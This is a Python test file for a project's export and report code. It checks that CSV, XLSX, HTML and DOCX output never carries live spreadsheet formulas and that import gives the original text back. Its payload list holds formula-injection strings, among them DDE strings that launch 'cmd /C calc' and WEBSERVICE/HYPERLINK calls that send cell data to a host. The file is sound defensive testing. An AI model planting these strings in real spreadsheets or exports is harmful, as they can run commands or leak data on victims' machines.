"""Formulas inside data: no file that leaves the program runs them in a spreadsheet, and import takes them back as they were."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest

from shnor_docx import Docx
from shnor_html import Html
from shnor_tui.interchange.defusing import as_meant, defused, kept
from shnor_tui.interchange.export import FORMATS, exported
from shnor_tui.interchange.preview import plan
from shnor_tui.interchange.reading import read_book
from shnor_tui.plugin import Chart, Column, Document, Heading, Items, Pairs, Paragraph, Renderer, Series, Stamp, Table
from shnor_tui.workspace.session import Workspace
from shnor_xlsx import Xlsx
from tests.renderers.trees import rendered

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!D2", "+A1", "-A1"),
    *('=HYPERLINK("http://a";"b")', "=WEBSERVICE(CONCATENATE(\"http://a/\";A1))", "=DDE(\"a\";\"b\";\"c\")", "={1}"),
    *("'=1+1", "''=1+1", "'+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u00a0=1+1", "\u200b=1+1", "\u2060=1+1"),
)  # fmt: skip
BEHIND_BLANKS = ("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\t@SUM(1)", "'\t=1", " '=1")
"""Blanks before a text are not kept by an import; a formula behind them is still none."""

STARTS = re.compile(r"[\s\u200b-\u200d\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")


@pytest.mark.parametrize("text", [*FORMULAS, *BEHIND_BLANKS])
def test_a_formula_gets_an_apostrophe_that_is_taken_away_again(text: str) -> None:
    assert not STARTS.match(defused(text))
    assert as_meant(defused(text)) == text
    assert as_meant(kept(text)) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_every_export_keeps_a_formula_from_running_and_gives_it_back(demo: Workspace, text: str) -> None:
    with demo.change("import") as editor:
        school = demo.snapshot().registry[0]
        editor.change(school, note=text, head=text, address=text)
    data = demo.snapshot()
    text_file = io.StringIO(exported("schools", "csv", data).decode("utf-8-sig"))
    cells = [cell for row in csv.reader(text_file, delimiter=";") for cell in row]
    assert [cell for cell in cells if STARTS.match(cell)] == []
    assert cells.count(defused(text)) == 3
    for name in ("schools", "all"):
        assert formulas_of(exported(name, "xlsx", data)) == []
    told = json.loads(exported("all", "json", data))["tables"]["schools"][0]
    assert (told["note"], told["head"]) == (text, text)
    for file_format in FORMATS:
        assert plan("schools", read_book("f", exported("schools", file_format, data)), data).nothing


def formulas_of(content: bytes) -> list[str]:
    """What a workbook would calculate: formulas as openpyxl reads them, and elements of them in its files."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(content)) as files:
        for name in files.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(r"<(?:f|oleLink|ddeLink)[ >].*?</", files.read(name).decode())
    return found


def document(text: str) -> Document:
    """A formula in every place of a document."""
    return Document(
        text,
        author=text,
        blocks=[
            Stamp(text),
            Heading(text),
            Paragraph(text),
            Items([text, text], ordered=True),
            Table([Column(text), Column(text, "right")], [[text, text]], text, [(0, text)]),
            Pairs([(text, text)]),
            Chart("bar", [text], [Series(text, [1])], text),
        ],
    )


@pytest.mark.parametrize("text", [*FORMULAS, *BEHIND_BLANKS])
def test_no_report_runs_a_formula_in_a_spreadsheet(text: str) -> None:
    assert formulas_of(rendered(Xlsx(), document(text))) == []
    shown = _Texts(rendered(Html(), document(text)).decode()).found
    assert [each for each in shown if STARTS.match(each)] == []
    assert any("1" in each or "A" in each or "SUM" in each for each in shown)


class _Texts(HTMLParser):
    """The text at the beginning of each element; the style is none that is read."""

    PASSED_OVER = frozenset({"style"})

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self._tag, self._begun = "", False
        self.feed(page)

    def handle_starttag(self, tag: str, _attrs: list[tuple[str, str | None]]) -> None:
        if tag not in {"strong", "em", "br"}:
            self._tag, self._begun = tag, False

    def handle_data(self, data: str) -> None:
        if self._tag not in self.PASSED_OVER and not self._begun and data.strip():
            self.found.append(data)
            self._begun = True


@pytest.mark.parametrize("text", ["-5", "+7 (4822) 00-00-01", "+5,2\u00a0п.п. к 2018/2019", "-", "−5", "75 %", "Школа"])
def test_numbers_and_telephones_of_a_page_are_left_as_they_are(text: str) -> None:
    page = Document("Справка", blocks=[Paragraph(text), Table([Column("А"), Column("Б", "right")], [[text, text]])])
    assert f">{text}</td>" in rendered(Html(), page).decode()


@pytest.mark.proof
@pytest.mark.parametrize("renderer", [Xlsx(), Html(), Docx()], ids=lambda renderer: renderer.id)
def test_libreoffice_calculates_nothing_of_a_report(renderer: Renderer, tmp_path: Path) -> None:
    texts = [text for text in FORMULAS if not text.startswith("'")]
    for n, text in enumerate(texts):
        (tmp_path / f"{n}{renderer.suffix}").write_bytes(rendered(renderer, document(text)))
    assert calculated(tmp_path, renderer.suffix, {".html": "HTML (StarCalc)"}.get(renderer.suffix, "")) == []


@pytest.mark.proof
def test_libreoffice_calculates_nothing_of_an_export(demo: Workspace, tmp_path: Path) -> None:
    for n, text in enumerate(FORMULAS):
        with demo.change("import") as editor:
            editor.change(demo.snapshot().registry[0], note=text, head=text)
        for file_format in ("csv", "xlsx"):
            (tmp_path / f"{n}.{file_format}").write_bytes(exported("schools", file_format, demo.snapshot()))
    assert calculated(tmp_path, ".csv", "CSV:59,34,76,1,,0,false,true,false,false,false,-1") == []
    assert calculated(tmp_path, ".xlsx", "") == []


def calculated(directory: Path, suffix: str, read_as: str) -> list[str]:
    """The formulas that LibreOffice finds in files."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("NOT PROVED: soffice not installed (Debian: libreoffice-calc, libreoffice-writer)")
    files = sorted(directory.glob(f"*{suffix}"))
    how = [f"--infilter={read_as}"] if read_as else []
    target = "fodt" if suffix == ".docx" else "fods"
    profile = f"-env:UserInstallation=file://{directory / 'profile'}"
    subprocess.run(
        [office, profile, "--headless", *how, "--convert-to", target, "--outdir", directory / "read", *files],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    read = [(directory / "read" / f"{file.stem}.{target}").read_text(encoding="utf-8") for file in files]
    assert len(read) == len(files) > 0
    return [found for page in read for found in re.findall(r'(?:table|text):formula="[^"]*"', page)]
